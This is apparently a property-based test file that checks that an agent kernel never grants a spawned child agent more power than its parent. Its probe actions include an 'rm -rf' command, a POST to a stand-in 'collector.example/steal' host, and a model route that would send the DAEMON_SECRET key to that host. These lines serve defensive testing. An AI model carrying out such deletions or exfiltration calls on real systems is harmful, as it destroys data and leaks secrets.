import { mkdir } from 'node:fs/promises';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { isGranted } from '../../src/capabilities/index.ts';
import type { Tool } from '../../src/contracts/index.ts';
import { CapabilityEscalationError } from '../../src/errors/index.ts';
import { type AgentDetailView, toolPolicyOf } from '../../src/kernel/index.ts';
import { type Manifest, ManifestSchema, namedModel } from '../../src/manifest/index.ts';
import { modelEndpoint, type ModelTarget } from '../../src/models/index.ts';
import { createToolRunner } from '../../src/runtime/index.ts';
import { createSilentLogger } from '../../src/logging/index.ts';
import { BUILTIN_TOOLS } from '../../src/tools/index.ts';
import { openTestHost, type TestHost } from '../support/test-host.ts';
import { makeTempDir } from '../support/test-kernel.ts';

/**
 * Whatever a child can do, through any tool or model, its parent could do. fast-check writes
 * parent and child manifests from a vocabulary of the fields that give power; every child the
 * kernel accepts is then put through the real tool runner (real tools' capability requests,
 * exec policy, tool lists and approvals; only `execute` is replaced, so nothing runs) on a set of
 * actions, next to its parent.
 */

let dir: Awaited<ReturnType<typeof makeTempDir>>;
let host: TestHost;
let root: string;

beforeAll(async () => {
  dir = await makeTempDir('loom-confinement-property-');
  root = dir.path;
  await mkdir(join(root, 'data', 'reports'), { recursive: true });
  host = await openTestHost(dir.path);
});
afterAll(async () => {
  await host.close();
  await dir.remove();
});

/** The built-in tools as the runner judges them; running one only says it ran. */
const probeTools: Tool<never>[] = BUILTIN_TOOLS.map((tool) => ({ ...tool, execute: () => Promise.resolve({ text: 'ran' }) }));

type Outcome = 'free' | 'approved' | 'denied';

const subsetOf = <T>(values: readonly T[]): fc.Arbitrary<T[]> => fc.subarray([...values]);
const maybe = <T>(arbitrary: fc.Arbitrary<T>): fc.Arbitrary<T | undefined> => fc.option(arbitrary, { nil: undefined });

const TOOLS = ['file_read', 'file_write', 'file_list', 'shell_exec', 'web_fetch', 'http_request', 'agent_message', 'memory_store'] as const;

const MODELS: readonly Record<string, string>[] = [
  { provider: 'openai', model: 'gpt-4o' },
  { provider: 'openai', model: 'gpt-4o-mini' },
  { provider: 'openai', model: 'gpt-4o', base_url: 'https://collector.example/v1' },
  { provider: 'openai-compatible', model: 'local', base_url: 'https://collector.example/v1', api_key_env: 'DAEMON_SECRET' },
  { provider: 'groq', model: 'llama-3.3-70b-versatile' },
];

const VOCABULARY = {
  tools: [...TOOLS],
  file_read: ['@/data/*', '@/data/reports/*', '@/*', '*'],
  file_write: ['@/data/*', '@/data/reports/*', '@/*', '*'],
  shell: ['ls', 'ls *', 'ls **', 'cat *', 'cat **', '*'],
  network: ['*.wikipedia.org', 'collector.example', '*'],
  env_read: ['DAEMON_SECRET', '*'],
  llm_query: ['openai/gpt-4o', 'openai/*', 'groq/*'],
  agent_message: ['helper-*', '*'],
  memory_write: ['self.*', '*'],
} as const;

type ListKey = keyof typeof VOCABULARY;

/** Mostly an empty list (no restriction), now and then some. */
function sometimes(arbitrary: fc.Arbitrary<string[]>): fc.Arbitrary<string[]> {
  return fc.oneof({ weight: 2, arbitrary: fc.constant([] as string[]) }, { weight: 1, arbitrary });
}

/** A list: mostly some of `preferred`, now and then with something else of `all` mixed in. */
function listFrom(preferred: readonly string[], all: readonly string[]): fc.Arbitrary<string[]> {
  return fc
    .tuple(subsetOf(preferred), fc.oneof({ weight: 15, arbitrary: fc.constant([] as string[]) }, { weight: 1, arbitrary: subsetOf(all) }))
    .map(([some, extra]) => [...new Set([...some, ...extra])]);
}

/** A manifest of the fields that give power, as an author (or a model) might write it; a child drawn mostly from its parent's. */
function manifestArbitrary(parent?: Record<string, unknown>): fc.Arbitrary<Record<string, unknown>> {
  const theirs = (parent?.['capabilities'] ?? {}) as Partial<Record<ListKey, string[]>>;
  const list = (key: ListKey): fc.Arbitrary<string[]> => listFrom(parent === undefined ? VOCABULARY[key] : (theirs[key] ?? []), VOCABULARY[key]);
  const fromParent = (key: string, all: readonly string[]): fc.Arbitrary<string[]> =>
    listFrom(parent === undefined ? all : ((parent[key] as string[] | undefined) ?? []), all);
  const parentModels =
    parent === undefined ? [] : [parent['model'] as Record<string, string>, ...((parent['fallback_models'] as Record<string, string>[] | undefined) ?? [])];
  const model =
    parent === undefined
      ? fc.constantFrom(...MODELS)
      : fc.oneof({ weight: 8, arbitrary: fc.constantFrom(...parentModels) }, { weight: 1, arbitrary: fc.constantFrom(...MODELS) });
  // A timed schedule now and then, whose wake-ups may run on a model of their own ([schedule].model):
  // a child's mostly as its parent's, its model mostly one the parent names.
  const parentSchedule = parent?.['schedule'] as Record<string, unknown> | undefined;
  const scheduleModel =
    parent === undefined
      ? fc.constantFrom(...MODELS)
      : fc.oneof(
          {
            weight: 8,
            arbitrary: fc.constantFrom(
              ...parentModels,
              ...(parentSchedule?.['model'] === undefined ? [] : [parentSchedule['model'] as Record<string, string>]),
            ),
          },
          { weight: 1, arbitrary: fc.constantFrom(...MODELS) },
        );
  const timed = fc.record(
    { mode: fc.constant('continuous'), interval_seconds: fc.constant(3600), model: maybe(scheduleModel) },
    { requiredKeys: ['mode', 'interval_seconds'] },
  );
  const schedule =
    parent !== undefined && parentSchedule === undefined
      ? fc.oneof({ weight: 8, arbitrary: fc.constant(undefined) }, { weight: 1, arbitrary: timed })
      : fc.oneof({ weight: 2, arbitrary: fc.constant(undefined) }, { weight: parent === undefined ? 1 : 3, arbitrary: timed });
  const resources = fc.record(
    {
      max_tokens_per_hour: maybe(fc.constantFrom(0, 1000, 5_000_000)),
      max_cost_per_hour: maybe(fc.constantFrom(0, 0.5, 20)),
      max_tokens_per_day: maybe(fc.constantFrom(0, 20_000, 50_000_000)),
      max_cost_per_day: maybe(fc.constantFrom(0, 5, 200)),
      max_iterations: maybe(fc.constantFrom(5, 100)),
    },
    { requiredKeys: [] },
  );
  return fc.record(
    {
      workspace: maybe(fc.constantFrom(...(parent !== undefined ? ['/', 'sub', '@/data', '@/data/reports', '@'] : ['@/data']))),
      capabilities: fc.record({
        tools: fc.oneof({ weight: 5, arbitrary: list('tools') }, { weight: 1, arbitrary: fc.constant(['*']) }),
        file_read: list('file_read'),
        file_write: list('file_write'),
        shell: list('shell'),
        network: list('network'),
        env_read: list('env_read'),
        llm_query: list('llm_query'),
        agent_message: list('agent_message'),
        memory_write: list('memory_write'),
      }),
      exec_policy: maybe(fc.record({ allow_shell: fc.boolean(), allow_network: fc.boolean(), allow_file_write: fc.boolean() })),
      tool_blocklist: sometimes(subsetOf(TOOLS)),
      tool_allowlist: parent === undefined ? sometimes(subsetOf(TOOLS)) : fromParent('tool_allowlist', TOOLS),
      autonomous: maybe(fc.record({ approval_required_for: sometimes(subsetOf(TOOLS)) })),
      model,
      schedule,
      fallback_models:
        parent === undefined ? subsetOf(MODELS) : fc.oneof({ weight: 8, arbitrary: subsetOf(parentModels) }, { weight: 1, arbitrary: subsetOf(MODELS) }),
      resources: parent === undefined ? resources : fc.oneof({ weight: 2, arbitrary: fc.constant({}) }, { weight: 1, arbitrary: resources }),
    },
    { requiredKeys: ['capabilities', 'model'] },
  );
}

/** Drops the keys whose value is undefined, so the schema's defaults apply, and puts the test's folder for `@`. */
function defined(value: unknown): unknown {
  if (typeof value === 'string') return value.startsWith('@') ? `${root}${value.slice(1)}` : value;
  if (Array.isArray(value)) return value.map(defined);
  if (value === null || typeof value !== 'object') return value;
  return Object.fromEntries(
    Object.entries(value)
      .filter(([, inner]) => inner !== undefined)
      .map(([key, inner]) => [key, defined(inner)]),
  );
}

/** The actions tried on both: absolute paths and full commands mean the same for both agents. */
function actions(parentWorkspace: string, childWorkspace: string): { tool: string; input: Record<string, unknown> }[] {
  const files = [
    `${parentWorkspace}/a.txt`,
    `${childWorkspace}/b.txt`,
    `${root}/data/x.txt`,
    `${root}/data/reports/q.txt`,
    `${root}/other.txt`,
    '/etc/hostname',
  ];
  return [
    ...files.map((path) => ({ tool: 'file_read', input: { path } })),
    ...files.map((path) => ({ tool: 'file_write', input: { path, content: 'x' } })),
    ...[childWorkspace, `${root}/data`, '/etc'].map((path) => ({ tool: 'file_list', input: { path } })),
    ...['ls', 'ls -la', 'cat notes.txt', 'cat a b', 'rm -rf x'].map((command) => ({ tool: 'shell_exec', input: { command } })),
    ...['https://en.wikipedia.org/wiki/Loom', 'https://collector.example/steal', 'https://example.org/'].map((url) => ({ tool: 'web_fetch', input: { url } })),
    { tool: 'http_request', input: { url: 'https://collector.example/steal', method: 'POST', body: 'x' } },
    ...['helper-1', 'boss'].map((target) => ({ tool: 'agent_message', input: { target_agent_name: target, message: 'hi' } })),
    ...['self.notes', 'other.notes'].map((key) => ({ tool: 'memory_store', input: { key, value: 'v' } })),
  ];
}

/** What the tool runner does with one call of `agent`: runs it freely, after an approval, or refuses it. */
async function outcomeOf(view: AgentDetailView, call: { tool: string; input: Record<string, unknown> }): Promise<Outcome> {
  let asked = false;
  const runner = createToolRunner({
    tools: probeTools,
    kernel: {} as never,
    clock: host.clock,
    logger: createSilentLogger(),
    env: {},
    audit: () => Promise.resolve(),
    approvals: {
      open: () => {
        asked = true;
        return Promise.resolve({ id: 'approval', expiresAt: 0, decision: Promise.resolve({ approved: true, by: 'owner', reason: null }) });
      },
    },
  });
  const policy = toolPolicyOf({ ...view, parentId: view.parent }, host.runtime.workspaceOf({ name: view.name, workspace: view.manifest.workspace }), []);
  const outcome = await runner.run(
    { toolCallId: 'call', toolName: call.tool, input: call.input },
    {
      agent: policy.agent,
      filter: policy.filter,
      approvalRequiredFor: policy.approvalRequiredFor,
      settings: policy.settings,
      signal: AbortSignal.timeout(5_000),
    },
  );
  if (outcome.result.isError === true) return 'denied';
  return asked ? 'approved' : 'free';
}

/** Every model an agent may have called (its scheduled wake-ups' too), with where its key goes. */
function modelRoutes(manifest: Manifest): { name: string; keyVariable: string | null; baseUrl: string }[] {
  const targets: ModelTarget[] = [
    ...(namedModel(manifest.model) === undefined ? [] : [namedModel(manifest.model) as ModelTarget]),
    ...manifest.fallback_models,
    ...(manifest.schedule.model === undefined ? [] : [manifest.schedule.model]),
  ];
  return targets.map((target) => ({ name: `${target.provider}/${target.model}`, ...modelEndpoint(target) }));
}

const RANK: Record<Outcome, number> = { free: 2, approved: 1, denied: 0 };

describe('confineChild() over generated manifests', () => {
  it('accepts only children that can do nothing their parent could not', async () => {
    let run = 0;
    let accepted = 0;
    await fc.assert(
      fc.asyncProperty(
        manifestArbitrary().chain((parentInput) => fc.tuple(fc.constant(parentInput), manifestArbitrary(parentInput))),
        async ([parentInput, childInput]) => {
          run += 1;
          const parentName = `boss-${run}`;
          const parent = await host.kernel.spawn(
            ManifestSchema.parse(
              defined({ ...parentInput, name: parentName, capabilities: { ...(parentInput['capabilities'] as object), agent_spawn: true } }),
            ),
          );
          try {
            try {
              await host.kernel.spawn(ManifestSchema.parse(defined({ ...childInput, name: `helper-${run}` })), { parent: parent.id });
            } catch (error) {
              if (error instanceof CapabilityEscalationError) return;
              throw error;
            }
            accepted += 1;
            const parentView = host.kernel.get(parentName);
            const childView = host.kernel.get(`helper-${run}`);
            const parentWorkspace = host.runtime.workspaceOf({ name: parentName, workspace: parentView.manifest.workspace });
            const childWorkspace = host.runtime.workspaceOf({ name: childView.name, workspace: childView.manifest.workspace });

            for (const call of actions(parentWorkspace, childWorkspace)) {
              const [childOutcome, parentOutcome] = [await outcomeOf(childView, call), await outcomeOf(parentView, call)];
              expect({ call, child: childOutcome, parent: parentOutcome, ok: RANK[childOutcome] <= RANK[parentOutcome] }).toMatchObject({ ok: true });
            }

            const parentRoutes = modelRoutes(parentView.manifest);
            const parentCaps = parentView.capabilities;
            const parentQueries = parentCaps.some((capability) => capability.kind === 'llm_query');
            for (const route of modelRoutes(childView.manifest)) {
              const mayCall = parentQueries
                ? isGranted(parentCaps, { kind: 'llm_query', pattern: route.name })
                : parentRoutes.some((theirs) => theirs.name === route.name);
              const host_ = new URL(route.baseUrl).hostname;
              const sameRoute = parentRoutes.some((theirs) => theirs.keyVariable === route.keyVariable && theirs.baseUrl === route.baseUrl);
              const couldSendItself =
                (route.keyVariable === null || isGranted(parentCaps, { kind: 'env_read', pattern: route.keyVariable })) &&
                (parentRoutes.some((theirs) => theirs.baseUrl === route.baseUrl) ||
                  (parentView.manifest.exec_policy?.allow_network !== false && isGranted(parentCaps, { kind: 'net_connect', pattern: `${host_}:443` })));
              expect({ route, ok: mayCall && (sameRoute || couldSendItself) }).toMatchObject({ ok: true });
            }

            const limits = (view: AgentDetailView) => view.manifest.resources;
            // 0 is no limit: above every number.
            const bound = (value: number): number => (value === 0 ? Number.POSITIVE_INFINITY : value);
            expect(bound(limits(childView).max_tokens_per_hour)).toBeLessThanOrEqual(bound(limits(parentView).max_tokens_per_hour));
            expect(bound(limits(childView).max_cost_per_hour)).toBeLessThanOrEqual(bound(limits(parentView).max_cost_per_hour));
            expect(bound(limits(childView).max_tokens_per_day)).toBeLessThanOrEqual(bound(limits(parentView).max_tokens_per_day));
            expect(bound(limits(childView).max_cost_per_day)).toBeLessThanOrEqual(bound(limits(parentView).max_cost_per_day));
            expect(limits(childView).max_iterations).toBeLessThanOrEqual(limits(parentView).max_iterations);
          } finally {
            await host.kernel.kill(parent.id);
          }
        },
      ),
      { numRuns: 400, seed: 20261122 },
    );
    // The property is only worth something if many generated children were accepted and tried.
    expect(accepted).toBeGreaterThan(60);
  });
});
